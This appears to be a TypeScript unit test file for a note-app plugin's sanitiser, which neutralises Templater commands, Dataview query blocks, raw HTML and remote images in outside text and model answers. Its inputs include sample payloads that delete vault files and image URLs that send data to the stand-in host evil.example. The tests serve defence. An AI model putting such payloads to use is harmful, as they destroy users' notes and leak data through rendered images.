import { describe, expect, it } from "vitest";

import { inert, renderable } from "../../src/ask/outside-text";

const MARK = "\u2060";
const shown = (text: string): string => text.split(MARK).join("");

describe("inert", () => {
	it("breaks a Templater command, a query fence and an inline query, and reads the same", () => {
		const text = 'Bake it. <%* app.vault.delete() %>\n```dataviewjs\ndv.pages()\n```\n> ```Dataview\n> LIST\n> ```\nCount: `$= dv.pages().length` and `= this.file.name`.';
		const out = inert(text);
		expect(out).not.toContain("<%");
		expect(out).toContain("```text dataviewjs\n");
		expect(out).toContain("> ```text Dataview\n");
		expect(out).toContain(`\`${MARK}$= dv.pages()`);
		expect(out).toContain(`\`${MARK}= this.file.name\``);
		expect(shown(out).replace("text dataviewjs", "dataviewjs").replace("text Dataview", "Dataview")).toBe(text);
	});

	it("leaves text without such syntax as it is, and is idempotent", () => {
		const text = "Rye ferments faster than wheat.\n```python\nprint(1 < 2)\n```\n`code` and 5 % 3";
		expect(inert(text)).toBe(text);
		const once = inert("<% tp.date.now() %> ```dataviewjs");
		expect(inert(once)).toBe(once);
	});
});

describe("renderable", () => {
	it("draws a remote image as a link, so nothing is fetched", () => {
		const out = renderable("See ![chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].");
		expect(out).toBe("See [chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].");
	});

	it("shows raw HTML as text outside code, and leaves code as it is", () => {
		const answer = 'A <img src="https://evil.example/?d=zafiro"> and <script>x()</script> a < b.\nUse `<img src=x>` here:\n```html\n<img src="a.png">\n![x](https://a.example/b.png)\n```\nDone <br>';
		expect(renderable(answer)).toBe('A &lt;img src="https://evil.example/?d=zafiro"> and &lt;script>x()&lt;/script> a < b.\nUse `<img src=x>` here:\n```html\n<img src="a.png">\n![x](https://a.example/b.png)\n```\nDone &lt;br>');
	});

	it("treats a lone backtick as text and a longer fence as closed only by its own kind", () => {
		expect(renderable("5` of <b>rain</b>")).toBe("5` of &lt;b>rain&lt;/b>");
		expect(renderable("~~~~\n```\n<i>\n~~~~\n<i>")).toBe("~~~~\n```\n<i>\n~~~~\n&lt;i>");
	});

	it("makes the model's query blocks inert too", () => {
		expect(renderable("```dataviewjs\napp.vault.adapter.remove('x')\n```")).toBe("```text dataviewjs\napp.vault.adapter.remove('x')\n```");
	});
});
